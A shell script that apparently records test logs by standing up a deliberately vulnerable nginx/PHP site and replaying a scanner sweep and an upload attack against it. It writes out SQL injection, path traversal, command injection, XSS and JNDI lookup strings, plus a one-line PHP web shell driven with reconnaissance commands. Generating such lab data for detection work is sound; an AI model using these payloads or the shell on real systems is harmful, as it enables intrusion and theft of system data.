#!/bin/sh
# Records `web-scan.ndjson.gz` and `web-shell.ndjson.gz`: a real nginx with PHP under a scan, and then a file dropped
# through its upload form that runs commands. Needs nginx, php-fpm 8 and curl besides what `record-lib.sh` names.
set -eu
. "$(dirname "$0")/record-lib.sh"

machine gov-portal-01 10.20.3.17 203.0.113.47 198.51.100.77 10.20.8.14
SITE=10.20.3.17:8080
mkdir -p "$WORK/site/uploads" "$WORK/tmp"
cat >"$WORK/site/index.php" <<'PHP'
<?php echo "<h1>Portal</h1>"; if (isset($_GET['q'])) echo htmlspecialchars($_GET['q']);
PHP
cat >"$WORK/site/upload.php" <<'PHP'
<?php if (isset($_FILES['f'])) move_uploaded_file($_FILES['f']['tmp_name'], __DIR__ . '/uploads/' . basename($_FILES['f']['name']));
PHP
echo 'service times' >"$WORK/site/hours.html"
chown -R www-data "$WORK/site" "$WORK/tmp"

cat >"$WORK/php.conf" <<CONF
[global]
error_log = $WORK/php.log
daemonize = no
[www]
user = www-data
group = www-data
listen = 127.0.0.1:9000
pm = static
pm.max_children = 4
CONF
cat >"$WORK/nginx.conf" <<CONF
pid $WORK/nginx.pid;
error_log $WORK/error.log;
daemon off;
user www-data;
events {}
http {
  include /etc/nginx/mime.types;
  client_body_temp_path $WORK/tmp;
  access_log $WORK/access.log combined;
  server {
    listen 10.20.3.17:8080;
    root $WORK/site;
    index index.php;
    location ~ \.php\$ {
      try_files \$uri =404;
      include /etc/nginx/fastcgi_params;
      fastcgi_param SCRIPT_FILENAME \$document_root\$fastcgi_script_name;
      fastcgi_pass 127.0.0.1:9000;
    }
  }
}
CONF
background "$(command -v php-fpm || ls /usr/sbin/php-fpm8* | head -n 1)" -F -y "$WORK/php.conf"
background nginx -c "$WORK/nginx.conf"
sleep 2

# get ADDRESS AGENT PATH…: as they stand, without curl's tidying of `..`.
get() {
  from=$1 agent=$2
  shift 2
  for path in "$@"; do
    curl -s -o /dev/null --path-as-is --interface "$from" -A "$agent" "http://$SITE$path" || true
  done
}
BROWSER='Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'
people() { get 10.20.8.14 "$BROWSER" / /hours.html '/?q=opening+times' '/?q=passport'; }

people
# Looking for what is often left lying about.
SCANNER='Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)'
get 198.51.100.77 "$SCANNER" / /robots.txt
for word in admin administrator login manager phpmyadmin pma wp-login.php wp-admin xmlrpc.php .git/HEAD .git/config \
  .env .svn/entries .DS_Store backup.zip backup.sql db.sql dump.sql config.php config.php.bak config.inc.php.old \
  web.config server-status phpinfo.php info.php test.php shell.php cgi-bin/test.cgi solr/admin/cores actuator/env \
  actuator/heapdump console manager/html jenkins/script api/v1/users swagger.json druid/index.html nacos/ \
  vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php struts2-showcase/index.action; do
  get 198.51.100.77 "$SCANNER" "/$word"
done
people
# Trying what often works.
get 198.51.100.77 'sqlmap/1.8.2#stable (https://sqlmap.org)' "/?q=1'%20OR%20'1'='1" '/?q=1%20UNION%20SELECT%20NULL,NULL--' \
  '/?q=1%20AND%20SLEEP(5)' "/?q=1';DROP%20TABLE%20users--" '/?q=1%20UNION%20ALL%20SELECT%20user,password%20FROM%20mysql.user'
get 198.51.100.77 "$SCANNER" /../../../../etc/passwd '/hours.html?f=../../../../etc/passwd' '/?f=..%2f..%2f..%2fetc%2fshadow' \
  '/?host=127.0.0.1;cat%20/etc/passwd' '/?x=%24%28id%29' '/?q=%3Cscript%3Ealert(1)%3C/script%3E'
get 198.51.100.77 '${jndi:ldap://198.51.100.77:1389/a}' /
people
sleep 1
cp "$WORK/access.log" "$WORK/scan.log"
: >"$WORK/access.log"
kill -USR1 "$(cat "$WORK/nginx.pid")"
sleep 0.5

# The upload form takes any file; the file runs what it is told.
people
get 203.0.113.47 "$BROWSER" / /upload.php
printf '<?php echo shell_exec($_REQUEST["c"]);\n' >"$WORK/report.php"
curl -s -o /dev/null --interface 203.0.113.47 -A "$BROWSER" -F "f=@$WORK/report.php" "http://$SITE/upload.php"
get 203.0.113.47 "$BROWSER" '/uploads/report.php?c=id' '/uploads/report.php?c=uname%20-a' \
  '/uploads/report.php?c=cat%20/etc/passwd' '/uploads/report.php?c=ls%20-la%20/var/www' \
  '/uploads/report.php?c=whoami;hostname;ip%20addr' '/uploads/report.php?c=find%20/%20-perm%20-4000%20-type%20f%202%3E/dev/null%20%7C%20head'
people
for command in 'crontab -l' 'netstat -an' 'cat /proc/version'; do
  curl -s -o /dev/null --interface 203.0.113.47 -A "$BROWSER" --data-urlencode "c=$command" "http://$SITE/uploads/report.php"
done
people
sleep 1
keep "$WORK/scan.log" nginx "$HERE/web-scan.ndjson.gz"
keep "$WORK/access.log" nginx "$HERE/web-shell.ndjson.gz"
